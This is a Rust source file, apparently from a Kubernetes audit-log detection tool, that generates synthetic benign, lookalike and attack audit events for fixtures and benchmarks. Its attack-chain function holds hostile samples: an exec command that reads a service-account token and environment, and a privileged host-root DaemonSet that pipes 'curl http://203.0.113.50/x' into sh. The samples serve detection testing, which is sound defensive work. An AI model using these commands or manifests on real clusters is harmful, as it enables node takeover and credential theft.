//! Audit event builders and the two generators.

use std::io::Write;

use kustody_model::time::format_rfc3339_nanos;
use serde_json::{json, Value};

use crate::Rng;

/// One audit event under construction.
#[derive(Clone)]
pub(crate) struct Ev {
    t_ns: i64,
    latency_us: i64,
    audit_id: String,
    level: &'static str,
    stage: &'static str,
    verb: &'static str,
    user: String,
    groups: Vec<String>,
    ua: String,
    ip: String,
    group: &'static str,
    version: &'static str,
    resource: &'static str,
    sub: Option<&'static str>,
    ns: Option<String>,
    name: Option<String>,
    query: String,
    code: u16,
    req: Option<Value>,
    resp: Option<Value>,
    reason: String,
    /// Authorized without an RBAC reason (system:masters).
    no_reason: bool,
}

impl Ev {
    pub(crate) fn new(
        rng: &mut Rng,
        t_ns: i64,
        user: &str,
        ua: &str,
        ip: &str,
        verb: &'static str,
        resource: &'static str,
    ) -> Ev {
        let groups = if user.starts_with("system:serviceaccount:") {
            let ns = user.split(':').nth(2).unwrap_or("default");
            vec!["system:serviceaccounts".into(), format!("system:serviceaccounts:{ns}"), "system:authenticated".into()]
        } else if user.starts_with("system:node:") {
            vec!["system:nodes".into(), "system:authenticated".into()]
        } else {
            vec!["system:authenticated".into()]
        };
        Ev {
            t_ns,
            latency_us: 300 + rng.below(4000) as i64,
            audit_id: rng.uuid(),
            level: "Metadata",
            stage: "ResponseComplete",
            verb,
            user: user.into(),
            groups,
            ua: ua.into(),
            ip: ip.into(),
            group: "",
            version: "v1",
            resource,
            sub: None,
            ns: None,
            name: None,
            query: String::new(),
            code: if verb == "create" { 201 } else { 200 },
            req: None,
            resp: None,
            reason: String::new(),
            no_reason: false,
        }
    }
    pub(crate) fn api(mut self, group: &'static str, version: &'static str) -> Self {
        self.group = group;
        self.version = version;
        self
    }
    pub(crate) fn ns(mut self, ns: &str) -> Self {
        self.ns = Some(ns.into());
        self
    }
    pub(crate) fn name(mut self, name: &str) -> Self {
        self.name = Some(name.into());
        self
    }
    pub(crate) fn sub(mut self, sub: &'static str) -> Self {
        self.sub = Some(sub);
        self
    }
    pub(crate) fn query(mut self, q: &str) -> Self {
        self.query = q.into();
        self
    }
    pub(crate) fn code(mut self, code: u16) -> Self {
        self.code = code;
        self
    }
    pub(crate) fn stage(mut self, stage: &'static str) -> Self {
        self.stage = stage;
        self
    }
    pub(crate) fn req(mut self, v: Value) -> Self {
        self.req = Some(v);
        if self.level == "Metadata" {
            self.level = "Request";
        }
        self
    }
    pub(crate) fn resp(mut self, v: Value) -> Self {
        self.resp = Some(v);
        self.level = "RequestResponse";
        self
    }
    pub(crate) fn reason(mut self, r: &str) -> Self {
        self.reason = r.into();
        self
    }

    fn uri(&self) -> String {
        let mut u = if self.group.is_empty() {
            format!("/api/{}", self.version)
        } else {
            format!("/apis/{}/{}", self.group, self.version)
        };
        if let Some(ns) = &self.ns {
            u.push_str(&format!("/namespaces/{ns}"));
        }
        u.push('/');
        u.push_str(self.resource);
        if let Some(n) = &self.name {
            u.push('/');
            u.push_str(n);
        }
        if let Some(s) = self.sub {
            u.push('/');
            u.push_str(s);
        }
        if !self.query.is_empty() {
            u.push('?');
            u.push_str(&self.query);
        }
        u
    }

    pub(crate) fn to_json(&self) -> String {
        let mut object_ref = json!({"resource": self.resource, "apiVersion": self.version});
        if !self.group.is_empty() {
            object_ref["apiGroup"] = json!(self.group);
        }
        if let Some(ns) = &self.ns {
            object_ref["namespace"] = json!(ns);
        }
        if let Some(n) = &self.name {
            object_ref["name"] = json!(n);
        }
        if let Some(s) = self.sub {
            object_ref["subresource"] = json!(s);
        }
        let mut status = json!({"metadata": {}, "code": self.code});
        if self.code >= 400 {
            let (st, reason) = match self.code {
                403 => ("Failure", "Forbidden"),
                404 => ("Failure", "NotFound"),
                409 => ("Failure", "AlreadyExists"),
                _ => ("Failure", "InternalError"),
            };
            status["status"] = json!(st);
            status["reason"] = json!(reason);
            status["message"] = json!(if self.code == 403 {
                format!(
                    "{}{} is forbidden: User \"{}\" cannot {} resource \"{}\" in API group \"{}\"{}",
                    self.resource,
                    self.name.as_ref().map(|n| format!(" \"{n}\"")).unwrap_or_default(),
                    self.user,
                    self.verb,
                    self.resource,
                    self.group,
                    self.ns
                        .as_ref()
                        .map(|n| format!(" in the namespace \"{n}\""))
                        .unwrap_or_else(|| " at the cluster scope".into())
                )
            } else {
                format!("{} {}", self.resource, reason)
            });
        }
        let decision = if self.code == 403 { "forbid" } else { "allow" };
        let reason = if self.reason.is_empty() && self.code != 403 && !self.no_reason {
            "RBAC: allowed by ClusterRoleBinding \"system:basic-user\" of ClusterRole \"system:basic-user\" to Group \"system:authenticated\"".to_owned()
        } else {
            self.reason.clone()
        };
        let mut ev = json!({
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": self.level,
            "auditID": self.audit_id,
            "stage": self.stage,
            "requestURI": self.uri(),
            "verb": self.verb,
            "user": {"username": self.user, "groups": self.groups},
            "sourceIPs": [self.ip],
            "userAgent": self.ua,
            "objectRef": object_ref,
            "responseStatus": status,
        });
        if let Some(r) = &self.req {
            ev["requestObject"] = r.clone();
        }
        if let Some(r) = &self.resp {
            ev["responseObject"] = r.clone();
        }
        ev["requestReceivedTimestamp"] = json!(format_rfc3339_micros(self.t_ns));
        ev["stageTimestamp"] = json!(format_rfc3339_micros(self.t_ns + self.latency_us * 1000));
        ev["annotations"] = json!({"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason});
        ev.to_string()
    }
}

/// Kubernetes writes microsecond precision.
fn format_rfc3339_micros(ns: i64) -> String {
    let s = format_rfc3339_nanos(ns);
    format!("{}Z", s.get(..26).unwrap_or(&s))
}

pub(crate) const KUBECTL: &str = "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350";
pub(crate) const NODES: &[&str] = &["ip-10-0-1-21", "ip-10-0-2-37", "ip-10-0-3-54"];
const APPS: &[&str] = &["web-frontend", "checkout", "catalog", "payments"];

fn pod_spec(image: &str, extra: Value) -> Value {
    let mut spec = json!({
        "serviceAccountName": "default",
        "containers": [{
            "name": "app",
            "image": image,
            "ports": [{"containerPort": 8080, "protocol": "TCP"}],
            "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}},
            "securityContext": {"allowPrivilegeEscalation": false, "runAsNonRoot": true, "readOnlyRootFilesystem": true}
        }],
        "restartPolicy": "Always"
    });
    if let (Some(s), Some(e)) = (spec.as_object_mut(), extra.as_object()) {
        for (k, v) in e {
            s.insert(k.clone(), v.clone());
        }
    }
    spec
}

/// Appends one background (benign) event at `t` to `out`. `pad` adds configmap data to reach
/// larger event sizes.
pub(crate) fn benign(rng: &mut Rng, t: i64, pad: usize) -> Ev {
    let node = *rng.pick(NODES).unwrap_or(&"node");
    let app = *rng.pick(APPS).unwrap_or(&"app");
    let ns = if app == "payments" { "payments" } else { "shop" };
    match rng.below(20) {
        0..=3 => Ev::new(rng, t, &format!("system:node:{node}"), "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350", "10.0.1.21", "patch", "nodes")
            .name(node)
            .sub("status")
            .req(json!({"status": {"conditions": [{"type": "Ready", "status": "True", "reason": "KubeletReady"}]}})),
        4..=6 => Ev::new(rng, t, "system:kube-controller-manager", "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/leader-election", "10.0.0.10", "update", "leases")
            .api("coordination.k8s.io", "v1")
            .ns("kube-system")
            .name("kube-controller-manager"),
        7 => Ev::new(rng, t, "system:kube-scheduler", "kube-scheduler/v1.30.2 (linux/amd64) kubernetes/3968350/leader-election", "10.0.0.10", "get", "leases")
            .api("coordination.k8s.io", "v1")
            .ns("kube-system")
            .name("kube-scheduler"),
        8 => Ev::new(rng, t, "system:serviceaccount:kube-system:coredns", "coredns/v1.11.1 (linux/amd64)", "10.244.0.3", "watch", "endpointslices")
            .api("discovery.k8s.io", "v1")
            .query("allowWatchBookmarks=true&resourceVersion=48211&watch=true"),
        9 => Ev::new(rng, t, "system:serviceaccount:kube-system:endpointslice-controller", "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:endpointslice-controller", "10.0.0.10", "update", "endpointslices")
            .api("discovery.k8s.io", "v1")
            .ns(ns)
            .name(&format!("{app}-x7k2p")),
        10 => Ev::new(rng, t, "system:serviceaccount:monitoring:prometheus", "Prometheus/2.48.1", "10.244.2.9", "list", "pods")
            .query("limit=500&resourceVersion=0"),
        11 => Ev::new(rng, t, "alice@example.com", KUBECTL, "192.0.2.10", "list", "pods").ns(ns).query("limit=500"),
        12 => Ev::new(rng, t, "alice@example.com", KUBECTL, "192.0.2.10", "get", "deployments")
            .api("apps", "v1")
            .ns(ns)
            .name(app),
        13 => {
            let data: String = "x".repeat(pad);
            Ev::new(rng, t, "system:serviceaccount:argocd:argocd-application-controller", "argocd-application-controller/v2.9.3+6eba5be", "10.244.1.5", "patch", "configmaps")
                .ns(ns)
                .name(&format!("{app}-config"))
                .req(json!({"data": {"LOG_LEVEL": "info", "FEATURE_FLAGS": "checkout-v2,new-search", "blob": data}}))
        }
        14 => {
            let image = format!("registry.example.com/shop/{app}:1.{}.{}", rng.below(9), rng.below(20));
            Ev::new(rng, t, "system:serviceaccount:argocd:argocd-application-controller", "argocd-application-controller/v2.9.3+6eba5be", "10.244.1.5", "patch", "deployments")
                .api("apps", "v1")
                .ns(ns)
                .name(app)
                .req(json!({"spec": {"template": {"spec": {"containers": [{"name": "app", "image": image}]}}}}))
                .resp(json!({"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": app, "namespace": ns, "generation": rng.below(90) + 1}, "spec": {"replicas": 3, "template": {"spec": pod_spec(&image, json!({}))}}}))
        }
        15 => {
            let pod = format!("{app}-7d9f8b6c5-{:05x}", rng.below(0xfffff));
            let image = format!("registry.example.com/shop/{app}:1.4.{}", rng.below(20));
            Ev::new(rng, t, "system:serviceaccount:kube-system:replicaset-controller", "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:replicaset-controller", "10.0.0.10", "create", "pods")
                .ns(ns)
                .req(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": format!("{app}-7d9f8b6c5-"), "namespace": ns, "labels": {"app": app}}, "spec": pod_spec(&image, json!({}))}))
                .resp(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": pod, "namespace": ns, "labels": {"app": app}}, "spec": pod_spec(&image, json!({"nodeName": node}))}))
        }
        16 => Ev::new(rng, t, "system:serviceaccount:kube-system:generic-garbage-collector", "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:generic-garbage-collector", "10.0.0.10", "get", "replicasets")
            .api("apps", "v1")
            .ns(ns)
            .name(&format!("{app}-7d9f8b6c5")),
        17 => Ev::new(rng, t, "system:serviceaccount:shop:checkout", "checkout/2.3.1 Go-http-client/2.0", "10.244.1.31", "get", "configmaps").ns("shop").name("checkout-config"),
        18 => Ev::new(rng, t, "bob@example.com", KUBECTL, "192.0.2.44", "get", "pods").ns(ns).sub("log").name(&format!("{app}-7d9f8b6c5-abcde")).query("container=app&tailLines=100"),
        _ => {
            let mut e = Ev::new(rng, t, "system:apiserver", "kube-apiserver/v1.30.2", "::1", "get", "namespaces").name("default");
            e.no_reason = true;
            e.groups = vec!["system:masters".into()];
            e
        }
    }
}

/// Routine cluster activity that looks like what the rules hunt for, by the identities that do
/// it every day: the kubelet minting pod tokens, controllers creating privileged CNI pods,
/// operators reading secrets, managed-cloud add-on managers, people checking their access.
fn lookalike(rng: &mut Rng, t: i64) -> Ev {
    let node = *rng.pick(NODES).unwrap_or(&"node");
    let kcm = "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350";
    match rng.below(10) {
        0 => Ev::new(rng, t, &format!("system:node:{node}"), "kubelet/v1.30.2 (linux/amd64) kubernetes/3968350", "10.0.1.21", "create", "serviceaccounts")
            .ns("shop")
            .name("default")
            .sub("token")
            .code(201)
            .req(json!({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"expirationSeconds": 3607, "boundObjectRef": {"kind": "Pod", "name": "web-0"}}})),
        1 => Ev::new(rng, t, "system:serviceaccount:kube-system:daemon-set-controller", kcm, "10.0.0.10", "create", "pods")
            .ns("kube-system")
            .code(201)
            .req(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": "aws-node-", "namespace": "kube-system"},
                        "spec": {"hostNetwork": true, "containers": [{"name": "aws-node", "image": "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.18.0", "securityContext": {"privileged": true, "capabilities": {"add": ["NET_ADMIN"]}}}],
                                 "volumes": [{"name": "cni-bin", "hostPath": {"path": "/opt/cni/bin"}}, {"name": "run", "hostPath": {"path": "/var/run/aws-node"}}]}})),
        2 => Ev::new(rng, t, "system:serviceaccount:cert-manager:cert-manager", "cert-manager/v1.13.3 (linux/amd64) cert-manager/0c5b4c6a", "10.244.3.4", "get", "secrets")
            .ns("shop")
            .name("shop-tls"),
        3 => Ev::new(rng, t, "eks:addon-manager", "eks-addon-manager/v0.1", "10.0.0.12", "patch", "daemonsets")
            .api("apps", "v1")
            .ns("kube-system")
            .name("kube-proxy")
            .req(json!({"spec": {"template": {"spec": {"hostNetwork": true, "containers": [{"name": "kube-proxy", "image": "602401143452.dkr.ecr.us-east-1.amazonaws.com/eks/kube-proxy:v1.30.0", "securityContext": {"privileged": true}}]}}}})),
        4 => Ev::new(rng, t, "alice@example.com", KUBECTL, "192.0.2.10", "create", "selfsubjectaccessreviews")
            .api("authorization.k8s.io", "v1")
            .code(201)
            .req(json!({"kind": "SelfSubjectAccessReview", "spec": {"resourceAttributes": {"namespace": "shop", "verb": "create", "resource": "deployments"}}})),
        5 => Ev::new(rng, t, "system:serviceaccount:kube-system:clusterrole-aggregation-controller", kcm, "10.0.0.10", "update", "clusterroles")
            .api("rbac.authorization.k8s.io", "v1")
            .name("admin")
            .req(json!({"rules": [{"apiGroups": [""], "resources": ["pods", "pods/exec", "secrets"], "verbs": ["*"]}]})),
        6 => Ev::new(rng, t, "system:kube-controller-manager", kcm, "10.0.0.10", "create", "events")
            .ns("shop")
            .code(201),
        7 => Ev::new(rng, t, "system:serviceaccount:kube-system:replicaset-controller", kcm, "10.0.0.10", "create", "pods")
            .ns("kube-system")
            .code(201)
            .req(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": "coredns-5d78c9869d-", "namespace": "kube-system"}, "spec": {"containers": [{"name": "coredns", "image": "registry.k8s.io/coredns/coredns:v1.11.1", "securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]}}}]}})),
        8 => Ev::new(rng, t, "system:gke-common-webhooks", "gke-common-webhooks/v1", "10.0.0.14", "update", "mutatingwebhookconfigurations")
            .api("admissionregistration.k8s.io", "v1")
            .name("pod-ready.config.common-webhooks.networking.gke.io"),
        _ => Ev::new(rng, t, "system:serviceaccount:kube-system:csrapproving", kcm, "10.0.0.10", "update", "certificatesigningrequests")
            .api("certificates.k8s.io", "v1")
            .name(&format!("csr-{}", rng.below(99999)))
            .sub("approval"),
    }
}

/// The attack chain of seed 003, as audit events from `t0` on.
fn attack_chain(rng: &mut Rng, t0: i64) -> Vec<Ev> {
    let s = 1_000_000_000i64;
    let sa = "system:serviceaccount:shop:web-frontend";
    let pod_ip = "10.244.1.17";
    let bad_image = "ghcr.io/frontend-tools/web-frontend:1.4.2-hotfix";
    let pod = "web-frontend-6c8d9f7b4-q2x9m";
    let mut out = Vec::new();
    // 1. A pod from a malicious (typosquatted, unpinned) image starts.
    out.push(
        Ev::new(rng, t0, "system:serviceaccount:kube-system:replicaset-controller", "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350/system:serviceaccount:kube-system:replicaset-controller", "10.0.0.10", "create", "pods")
            .ns("shop")
            .req(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"generateName": "web-frontend-6c8d9f7b4-", "namespace": "shop", "labels": {"app": "web-frontend"}}, "spec": pod_spec(bad_image, json!({"serviceAccountName": "web-frontend"}))}))
            .resp(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": pod, "namespace": "shop", "labels": {"app": "web-frontend"}}, "spec": pod_spec(bad_image, json!({"serviceAccountName": "web-frontend", "nodeName": "ip-10-0-2-37"}))})),
    );
    // 2. Its service-account token, used with kubectl from inside the pod.
    out.push(Ev::new(rng, t0 + 95 * s, sa, KUBECTL, pod_ip, "get", "namespaces").name("shop"));
    // 3. Permission enumeration.
    out.push(
        Ev::new(rng, t0 + 97 * s, sa, KUBECTL, pod_ip, "create", "selfsubjectrulesreviews")
            .api("authorization.k8s.io", "v1")
            .req(json!({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"namespace": "shop"}})),
    );
    for (verb, res) in [("list", "secrets"), ("create", "pods/exec"), ("create", "daemonsets")] {
        out.push(
            Ev::new(rng, t0 + 99 * s, sa, KUBECTL, pod_ip, "create", "selfsubjectaccessreviews")
                .api("authorization.k8s.io", "v1")
                .req(json!({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"namespace": "shop", "verb": verb, "resource": res}}})),
        );
    }
    // 4. Forbidden secret listing, in the namespace and cluster-wide.
    out.push(
        Ev::new(rng, t0 + 104 * s, sa, KUBECTL, pod_ip, "list", "secrets")
            .ns("shop")
            .query("limit=500")
            .code(403)
            .reason(""),
    );
    out.push(
        Ev::new(rng, t0 + 106 * s, sa, KUBECTL, pod_ip, "list", "secrets").query("limit=500").code(403).reason(""),
    );
    // 5. Exec into the payments database pod (WebSocket exec: verb get, two stages).
    let exec_q = "command=sh&command=-c&command=cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken%3B%20env&container=postgres&stdin=true&stdout=true&stderr=true&tty=false";
    let reason = "RBAC: allowed by RoleBinding \"web-frontend-debug/shop\" of Role \"debug\" to ServiceAccount \"web-frontend/shop\"";
    let exec = Ev::new(rng, t0 + 140 * s, sa, KUBECTL, pod_ip, "get", "pods")
        .ns("shop")
        .name("payments-db-0")
        .sub("exec")
        .query(exec_q)
        .code(101)
        .reason(reason)
        .stage("ResponseStarted");
    let mut done = exec.clone().stage("ResponseComplete");
    done.latency_us = 8_400_000;
    out.push(exec);
    out.push(done);
    // 6. A privileged DaemonSet mounting the host's root filesystem.
    let ds_spec = json!({
        "hostPID": true,
        "hostNetwork": true,
        "containers": [{"name": "agent", "image": "ghcr.io/frontend-tools/node-agent:latest", "command": ["/bin/sh", "-c", "chroot /host sh -c 'curl -s http://203.0.113.50/x | sh'"], "securityContext": {"privileged": true}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
        "volumes": [{"name": "host", "hostPath": {"path": "/", "type": "Directory"}}]
    });
    out.push(
        Ev::new(rng, t0 + 180 * s, sa, KUBECTL, pod_ip, "create", "daemonsets")
            .api("apps", "v1")
            .ns("shop")
            .reason("RBAC: allowed by RoleBinding \"web-frontend-deployer/shop\" of Role \"deployer\" to ServiceAccount \"web-frontend/shop\"")
            .req(json!({"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "node-agent", "namespace": "shop"}, "spec": {"selector": {"matchLabels": {"app": "node-agent"}}, "template": {"metadata": {"labels": {"app": "node-agent"}}, "spec": ds_spec}}}))
            .resp(json!({"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "node-agent", "namespace": "shop", "uid": "5b0e2f4c-1d7a-4c1e-9a55-3f2d7e6b8c01"}})),
    );
    out
}

/// The bundled example: 20 minutes of benign traffic with the attack chain in the middle.
/// Deterministic: the same bytes on every run and every machine.
pub fn example(out: &mut dyn Write) -> std::io::Result<()> {
    let mut rng = Rng::new(3);
    let start = 1_795_165_200_000_000_000i64; // 2026-11-20T09:00:00Z
    let mut events: Vec<Ev> = Vec::new();
    let mut t = start;
    while t < start + 1_200_000_000_000 {
        events.push(benign(&mut rng, t, 64));
        t += 2_000_000_000 + rng.below(4_000_000_000) as i64;
    }
    events.extend(attack_chain(&mut rng, start + 540_000_000_000));
    events.sort_by_key(|e| e.t_ns + e.latency_us * 1000);
    for e in events {
        writeln!(out, "{}", e.to_json())?;
    }
    Ok(())
}

/// A benchmark corpus: `bytes` of audit JSON lines.
pub struct Corpus {
    rng: Rng,
    t: i64,
    /// A fixed mean gap between events (±50 %), instead of 1–21 ms.
    gap_ns: Option<i64>,
    n: u64,
    benign_only: bool,
    body_heavy: bool,
}

impl Corpus {
    pub fn new(seed: u64) -> Corpus {
        Corpus {
            rng: Rng::new(seed),
            t: 1_795_165_200_000_000_000,
            gap_ns: None,
            n: 0,
            benign_only: false,
            body_heavy: false,
        }
    }

    /// The body-heavy, alert-heavy profile (issue 21): a quarter of the events are
    /// RequestResponse pod creates with about 2.5 KB of request and response bodies, and over a
    /// third raise an alert with the upstream Falco rules. See `heavy.rs`.
    pub fn body_heavy(seed: u64) -> Corpus {
        Corpus { body_heavy: true, ..Corpus::new(seed) }
    }

    /// Benign traffic only (no attack-chain events), with one event in ten one of the routine
    /// actions that resemble attacks: the noise test for the built-in rules.
    pub fn benign(seed: u64) -> Corpus {
        Corpus { benign_only: true, ..Corpus::new(seed) }
    }

    /// Events from `start_ns` on, `gap_ns` apart on average (a day of traffic ending now, say).
    pub fn clock(self, start_ns: i64, gap_ns: i64) -> Corpus {
        Corpus { t: start_ns, gap_ns: Some(gap_ns.max(2)), ..self }
    }

    /// The time of the last event written.
    pub fn time_ns(&self) -> i64 {
        self.t
    }

    /// The next event as one JSON line (no newline). Sizes: mostly 0.5–2 KB, a tail up to 20 KB;
    /// one event in 500 belongs to an attack chain.
    pub fn next_line(&mut self) -> String {
        self.n += 1;
        self.t += match self.gap_ns {
            Some(g) => g / 2 + self.rng.below(g as u64) as i64,
            None => 1_000_000 + self.rng.below(20_000_000) as i64,
        };
        if self.body_heavy {
            return crate::heavy::next(&mut self.rng, self.t).to_json();
        }
        if self.benign_only && self.n.is_multiple_of(10) {
            return lookalike(&mut self.rng, self.t).to_json();
        }
        if !self.benign_only && self.n.is_multiple_of(500) {
            let chain = attack_chain(&mut self.rng, self.t);
            let i = self.rng.below(chain.len() as u64) as usize;
            if let Some(e) = chain.get(i) {
                let mut e = e.clone();
                e.t_ns = self.t;
                return e.to_json();
            }
        }
        let pad = match self.rng.below(100) {
            0..=69 => self.rng.below(600) as usize,
            70..=94 => 1000 + self.rng.below(4000) as usize,
            _ => 5000 + self.rng.below(14_500) as usize,
        };
        benign(&mut self.rng, self.t, pad).to_json()
    }

    /// Writes lines until at least `bytes` have been written.
    pub fn write(&mut self, bytes: u64, out: &mut dyn Write) -> std::io::Result<u64> {
        self.write_as(bytes, Wrap::Native, out)
    }

    /// Writes about `bytes` of native events (counted before wrapping), each in `wrap`'s format.
    pub fn write_as(&mut self, bytes: u64, wrap: Wrap, out: &mut dyn Write) -> std::io::Result<u64> {
        let mut written = 0u64;
        while written < bytes {
            let native = self.next_line();
            let line = wrap_line(&native, wrap);
            out.write_all(line.as_bytes())?;
            out.write_all(b"\n")?;
            written += native.len() as u64 + 1;
        }
        Ok(written)
    }
}

/// How a managed cluster would have exported an event (for normalisation benchmarks and
/// fixtures). The inverse of kustody's readers; see docs/FORMATS.md.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Wrap {
    Native,
    /// A CloudWatch Logs event: the Event as a string in `message`.
    Eks,
    /// An AKS diagnostic record: the Event as a string in `properties.log`.
    Aks,
    /// A GKE Cloud Logging LogEntry with an AuditLog payload.
    Gke,
}

impl std::str::FromStr for Wrap {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        Ok(match s {
            "native" => Wrap::Native,
            "eks" => Wrap::Eks,
            "aks" => Wrap::Aks,
            "gke" => Wrap::Gke,
            other => return Err(format!("unknown format `{other}` (native, eks, aks, gke)")),
        })
    }
}

/// Renders one native event line in `wrap`'s format.
pub fn wrap_line(line: &str, wrap: Wrap) -> String {
    match wrap {
        Wrap::Native => line.to_owned(),
        Wrap::Eks => {
            json!({"logStreamName": "kube-apiserver-audit-1", "timestamp": 1_700_000_000_000u64, "message": line,
            "ingestionTime": 1_700_000_000_001u64, "eventId": "1"})
            .to_string()
        }
        Wrap::Aks => {
            json!({"category": "kube-audit", "properties": {"log": line, "stream": "stdout", "pod": "kube-apiserver-1"},
            "time": "2024-01-01T00:00:00Z"})
            .to_string()
        }
        Wrap::Gke => serde_json::from_str::<Value>(line)
            .ok()
            .and_then(|ev| gke_entry(&ev))
            .map_or_else(|| line.to_owned(), |v| v.to_string()),
    }
}

fn gke_entry(ev: &Value) -> Option<Value> {
    let o = ev.get("objectRef")?;
    let s = |v: Option<&Value>| v.and_then(Value::as_str).map(str::to_owned);
    let group = s(o.get("apiGroup")).filter(|g| !g.is_empty()).unwrap_or_else(|| "core".into());
    let version = s(o.get("apiVersion")).unwrap_or_else(|| "v1".into());
    let resource = s(o.get("resource"))?;
    let mut path = format!("{group}/{version}");
    if let Some(ns) = s(o.get("namespace")) {
        path.push_str(&format!("/namespaces/{ns}"));
    }
    path.push_str(&format!("/{resource}"));
    if let Some(n) = s(o.get("name")) {
        path.push_str(&format!("/{n}"));
    }
    let sub = s(o.get("subresource"));
    if let Some(x) = &sub {
        path.push_str(&format!("/{x}"));
    }
    let verb = s(ev.get("verb"))?;
    let code = ev.get("responseStatus").and_then(|r| r.get("code")).and_then(Value::as_i64).unwrap_or(200);
    let grpc = match code {
        200..=299 => 0,
        401 => 16,
        403 => 7,
        404 => 5,
        409 => 6,
        _ => 13,
    };
    let mut payload = json!({
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "authenticationInfo": {"principalEmail": ev.get("user").and_then(|u| u.get("username"))},
        "methodName": format!("io.k8s.{group}.{version}.{resource}{}.{verb}", sub.map(|x| format!(".{x}")).unwrap_or_default()),
        "resourceName": path,
        "requestMetadata": {"callerIp": ev.get("sourceIPs").and_then(|i| i.get(0)), "callerSuppliedUserAgent": ev.get("userAgent")},
        "serviceName": "k8s.io",
        "status": {"code": grpc},
    });
    if let Some(p) = payload.as_object_mut() {
        if let Some(r) = ev.get("requestObject") {
            p.insert("request".into(), r.clone());
        }
        if let Some(r) = ev.get("responseObject") {
            p.insert("response".into(), r.clone());
        }
    }
    Some(json!({
        "insertId": ev.get("auditID"),
        "labels": ev.get("annotations").cloned().unwrap_or_else(|| json!({})),
        "operation": {"id": ev.get("auditID"), "first": true, "last": true, "producer": "k8s.io"},
        "protoPayload": payload,
        "resource": {"type": "k8s_cluster", "labels": {"cluster_name": "prod", "location": "europe-west1", "project_id": "p"}},
        "timestamp": ev.get("stageTimestamp"),
        "logName": "projects/p/logs/cloudaudit.googleapis.com%2Factivity",
    }))
}
